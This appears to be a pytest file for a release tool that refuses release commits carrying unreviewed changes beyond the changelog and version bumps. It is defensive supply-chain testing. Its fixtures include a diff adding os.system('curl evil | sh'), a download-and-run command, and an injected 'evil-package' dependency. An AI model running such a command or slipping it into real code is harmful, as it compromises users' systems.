"""What ships was reviewed: a release commit that is not prepare's own commit on the merge
target (it sits on unreviewed commits, is a merge, or changes more than the changelog and
version numbers) is refused before anything is downloaded."""

from __future__ import annotations

from typing import Any

import pytest

from valet.config import Config
from valet.publish import reviewed as rule

from .fakes import BASE, BUMP, CONFIG, SHA, release_compare
from .test_publisher import World

EVIL = "@@ -0,0 +1,2 @@\n+import os\n+os.system('curl evil | sh')"
PYPROJECT_DEPENDENCY = ('@@ -1,3 +1,4 @@\n [project]\n name = "pkg"\n-version = "1.2.2"\n'
                        '+version = "1.2.3"\n+dependencies = ["evil-package"]')
CONSTS = '@@ -1 +1 @@\n-VERSION = "1.2.2"\n+VERSION = "1.2.3"'
CHANGELOG = "@@ -1,2 +1,6 @@\n # Changelog\n \n+## 1.2.3\n+\n+- a fix (#12)\n+"


def modified(name: str, patch: str | None, status: str = "modified") -> dict[str, Any]:
    item: dict[str, Any] = {"filename": name, "status": status}
    if patch is not None:
        item["patch"] = patch
    return item


def refused_before_anything(w: World, *why: str) -> str:
    """Nothing downloaded or published, `accepted` taken back, the comment says why."""
    assert w.reg.calls == [] and w.store.downloads == 0 and w.sdk.merges == []
    assert "accepted" not in w.labels
    comment = w.comments[-1]
    assert "refused" in comment, comment
    assert "merge the change into main through a reviewed pull request, then run the " \
        "release workflow again" in comment, comment
    for text in why:
        assert text in comment, comment
    return comment


# -- attacks, through the whole publish run ---------------------------------------------


def test_attack_a_release_commit_on_a_commit_main_never_had(tmp_path):
    """An SDK committer pushes an unreviewed commit to a branch of their own and cuts the
    release commit on top of it: two commits ahead of main."""
    w = World(tmp_path)
    unreviewed = "e" * 40
    compare = release_compare(ahead_by=2, parents=(unreviewed,))
    compare["commits"].insert(0, {"sha": unreviewed, "parents": [{"sha": BASE}]})
    w.sdk.diverged[("main", SHA)] = compare
    assert w.label() == 0
    refused_before_anything(w, "2 commits ahead of the merge target")


def test_attack_a_release_commit_that_also_changes_source_code(tmp_path):
    w = World(tmp_path)
    w.sdk.diverged[("main", SHA)] = release_compare([
        modified("pyproject.toml", BUMP), modified("src/pkg/evil.py", EVIL, "added")])
    assert w.label() == 0
    comment = refused_before_anything(w, "src/pkg/evil.py is added")
    assert "pyproject.toml" not in comment  # the version bump itself is fine


def test_attack_a_version_file_with_a_line_that_is_no_version(tmp_path):
    w = World(tmp_path)
    w.sdk.diverged[("main", SHA)] = release_compare([
        modified("pyproject.toml", PYPROJECT_DEPENDENCY)])
    assert w.label() == 0
    refused_before_anything(w, "pyproject.toml: a line added", "evil-package")


def test_attack_a_merge_commit_as_release_commit(tmp_path):
    w = World(tmp_path)
    w.sdk.diverged[("main", SHA)] = release_compare(parents=(BASE, "e" * 40))
    assert w.label() == 0
    refused_before_anything(w, "merge commit (2 parents)")


def test_attack_a_file_github_shows_no_patch_for(tmp_path):
    w = World(tmp_path)
    w.sdk.diverged[("main", SHA)] = release_compare([
        modified("pyproject.toml", BUMP), modified("src/pkg/native.so", None)])
    assert w.label() == 0
    refused_before_anything(w, "src/pkg/native.so: GitHub shows no patch")


def test_attack_too_many_files_to_read(tmp_path):
    w = World(tmp_path)
    w.sdk.diverged[("main", SHA)] = release_compare(
        [modified(f"docs/{i}.md", CONSTS) for i in range(300)])
    assert w.label() == 0
    refused_before_anything(w, "300 or more files")


def test_attack_a_dry_run_is_refused_the_same(tmp_path):
    w = World(tmp_path, dry_run=True)
    w.sdk.diverged[("main", SHA)] = release_compare([modified("src/pkg/evil.py", EVIL)])
    assert w.label() == 0
    refused_before_anything(w, "src/pkg/evil.py")


# -- what passes ------------------------------------------------------------------------


def test_prepares_own_commit_publishes_with_one_compare(tmp_path):
    w = World(tmp_path)
    assert w.label() == 0
    assert w.labels == {"published"}
    assert w.sdk.compares == [("main", SHA)]  # the review and the merge check share it


def test_a_pre_release_command_may_bump_files_the_config_does_not_name(tmp_path):
    """craft's preReleaseCommand (scripts/bump-version.sh) rewrites files valet does not
    know of: each may change from the previous release's version to the new one."""
    w = World(tmp_path, previous="v1.2.2")
    w.sdk.files[("main", ".valet.yml")] = CONFIG + (
        "changelog_policy: auto\npre_release_command: scripts/bump-version.sh\n")
    w.sdk.diverged[("main", SHA)] = release_compare([
        modified("CHANGELOG.md", CHANGELOG), modified("sdk/consts.py", CONSTS),
        modified("docs/conf.py", '@@ -3 +3 @@\n-release = "1.2.2"  # 1.2.2\n'
                 '+release = "1.2.3"  # 1.2.3')])
    assert w.label() == 0
    assert w.labels == {"published"}


def test_a_pre_release_command_may_not_change_another_version(tmp_path):
    w = World(tmp_path, previous="v1.2.2")
    w.sdk.files[("main", ".valet.yml")] = CONFIG + "pre_release_command: scripts/bump.sh\n"
    w.sdk.diverged[("main", SHA)] = release_compare([
        modified("requirements.txt", "@@ -1 +1 @@\n-urllib3==1.2.1\n+urllib3==1.2.3")])
    assert w.label() == 0
    refused_before_anything(w, "requirements.txt", "is not 1.2.2 → 1.2.3")


# -- the rule, pure ---------------------------------------------------------------------


def files(**kw: Any) -> rule.ReleaseFiles:
    return rule.release_files(Config(**kw), kw.get("path", "."))


def problems(compare: dict[str, Any], previous: str | None = "1.2.2",
             **config: Any) -> list[str]:
    return rule.problems(compare, sha=SHA, version="1.2.3", previous=previous,
                         files=files(**config))


@pytest.mark.parametrize("status", ["identical", "behind"])
def test_a_release_commit_already_in_the_merge_targets_history_passes(status):
    assert problems({"status": status, "ahead_by": 0, "commits": [], "files": []}) == []


def test_diverged_one_commit_on_the_merge_base_passes():
    compare = release_compare(status="diverged", behind_by=3)
    assert problems(compare) == []


def test_a_parent_that_is_not_the_merge_base_is_refused():
    compare = release_compare()
    compare["merge_base_commit"] = {"sha": "c" * 40}
    assert "is not the merge base" in problems(compare)[0]


def test_another_commit_than_the_release_commit_is_refused():
    compare = release_compare()
    compare["commits"][0]["sha"] = "c" * 40
    assert f"not {SHA}" in problems(compare)[0]


def test_the_changelog_may_be_created_or_changed_freely():
    for status in ("added", "modified"):
        compare = release_compare([modified("CHANGELOG.md", "@@ -0,0 +1 @@\n+anything", status)])
        assert problems(compare, changelog_policy="auto") == []
    # with the policy `none` prepare writes no changelog: it is a file like any other
    assert problems(compare) == ["CHANGELOG.md: a line added (`anything`), not a version "
                                 "changed"]


def test_a_removed_or_renamed_changelog_is_refused():
    gone = release_compare([modified("CHANGELOG.md", None, "removed")])
    assert problems(gone, changelog_policy="auto") == ["CHANGELOG.md is removed"]
    moved = release_compare([{"filename": "HISTORY.md", "previous_filename": "CHANGELOG.md",
                              "status": "renamed", "patch": ""}])
    assert problems(moved, changelog_policy="auto") == ["CHANGELOG.md → HISTORY.md is renamed"]


def test_a_monorepo_projects_changelog_and_version_files():
    compare = release_compare([modified("packages/a/CHANGELOG.md", CHANGELOG),
                               modified("packages/a/package.json", '@@ -2 +2 @@\n-  "version":'
                                        ' "0.0.0",\n+  "version": "1.2.3",')])
    assert problems(compare, previous=None, path="packages/a", changelog_policy="auto") == []
    # another project's changelog is no file of this release
    assert problems(release_compare([modified("CHANGELOG.md", CHANGELOG)]), path="packages/a",
                    changelog_policy="auto")


def test_valets_own_version_files_may_hold_any_old_version():
    """A first release, or a file that held a stale version: valet's bump replaces it."""
    stale = release_compare([modified("pyproject.toml", BUMP.replace("1.2.2", "0.0.1"))])
    assert problems(stale) == [] and problems(stale, previous=None) == []
    named = release_compare([modified("src/pkg/_version.py", CONSTS.replace("1.2.2", "0.9.0"))])
    assert problems(named, bump_files=["src/pkg/_version.py"], previous=None) == []


def test_with_no_previous_release_only_the_changelog_and_version_files_may_change():
    compare = release_compare([modified("docs/conf.yml", CONSTS)])
    found = problems(compare, previous=None, pre_release_command="./bump.sh")
    assert found and "no previous release" in found[0] and "docs/conf.yml" in found[0]
    assert problems(compare, pre_release_command="./bump.sh") == []
    assert problems(compare, previous=None, pre_release_command="./bump.sh",
                    bump_files=["docs/conf.yml"]) == []


def test_a_first_release_whose_pre_release_command_bumps_package_json_files():
    """craft's dotagents: the bump script sets both packages (and a dependency) from 0.0.0."""
    host = ('@@ -1,6 +1,6 @@\n {\n   "name": "@acme/host",\n-  "version": "0.0.0",\n'
            '+  "version": "2.0.0",\n   "dependencies": {\n-    "@acme/lib": "0.0.0"\n'
            '+    "@acme/lib": "2.0.0"\n   }')
    compare = release_compare([modified("packages/host/package.json", host),
                               modified("CHANGELOG.md", CHANGELOG)])
    assert rule.problems(compare, sha=SHA, version="2.0.0", previous=None, files=files(
        pre_release_command="node scripts/bump-version.mjs", changelog_policy="auto")) == []


def test_the_old_version_must_parse_as_a_version():
    compare = release_compare([modified("pyproject.toml",
                                        '@@ -1 +1 @@\n-version = "main"\n+version = "1.2.3"')])
    assert "is not a version → 1.2.3" in problems(compare)[0]


@pytest.mark.parametrize("removed,added,old", [
    ('version = "1.2.2"', 'version = "1.2.3"', "1.2.2"),
    ("a 1.2.2 b 1.2.2", "a 1.2.3 b 1.2.3", "1.2.2"),
    ("a 1.2.2 b 1.2.1", "a 1.2.3 b 1.2.3", None),  # two different old versions
    ("sdk", "sdk 1.2.3", None),  # a version added, nothing replaced
    ('x = "1.2.3"', 'x = "1.2.3"', None),  # no change at all (a newline, say)
    ('v = "1.2.2"', 'v = "1.2.3"; import os', None),
    ('"version": "1.3.0-rc.1",', '"version": "1.2.3",', "1.3.0-rc.1"),
])
def test_old_version(removed, added, old):
    assert rule.old_version(removed, added, "1.2.3") == old


def test_lines_added_or_removed_beside_a_bump_are_refused():
    removed = release_compare([modified("pyproject.toml", '@@ -1,2 +1 @@\n-version = "1.2.2"\n'
                                        '-dependencies = ["safe"]\n+version = "1.2.3"')])
    assert "a line removed" in problems(removed)[0]
    newline = release_compare([modified("pyproject.toml", '@@ -1 +1 @@\n-version = "1.2.2"\n'
                                        '\\ No newline at end of file\n+version = "1.2.3"')])
    assert problems(newline) == []


@pytest.mark.parametrize("tag,prefix,version", [
    ("v1.2.2", "v", "1.2.2"), ("1.2.2", "", "1.2.2"), ("v1.2.2", "", "1.2.2"), ("packages/a/v0.1.0", "packages/a/v",
                                                       "0.1.0"),
    ("other-1.2.2", "v", None), ("vmain", "v", None), (None, "", None), ("a" * 40, "", None),
])
def test_previous_version_from_the_tag(tag, prefix, version):
    assert rule.previous_version(tag, prefix) == version
